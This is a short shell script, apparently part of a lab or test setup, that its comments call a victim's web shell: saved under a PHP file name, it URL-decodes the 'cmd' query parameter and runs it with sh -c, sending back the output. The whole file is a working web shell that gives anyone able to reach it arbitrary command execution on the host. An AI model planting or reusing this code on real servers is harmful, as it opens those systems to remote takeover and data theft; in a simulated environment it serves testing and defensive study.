# The victim's web shell: a shell script under a PHP name (httpd.conf runs *.php through sh). It runs
# the cmd query parameter and returns the output, as the one-line PHP web shells found in the wild do.
echo "Content-Type: text/plain"
echo
cmd=$(httpd -d "${QUERY_STRING#cmd=}")
sh -c "$cmd" 2>&1
